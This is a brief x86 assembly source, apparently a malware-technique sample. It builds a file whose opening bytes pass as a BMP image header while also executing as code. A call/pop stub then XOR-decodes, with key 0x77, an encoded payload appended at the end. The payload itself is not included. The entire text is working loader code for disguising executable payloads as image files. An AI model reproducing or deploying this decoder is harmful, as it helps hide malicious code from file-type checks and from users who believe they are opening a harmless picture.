; Decoder inside what begins like a bitmap: "BM", a size that is a jump over the rest of the header.
bits 32
        inc edx                 ; B
        dec ebp                 ; M
        jmp short start         ; the size's low bytes
length: dw 0
        times 54 - ($ - $$) db 0x28
start:  call here
here:   pop esi
        movzx ecx, word [esi + length - here]
        add esi, byte payload - here
again:  xor byte [esi], 0x77
        inc esi
        loop again
payload:
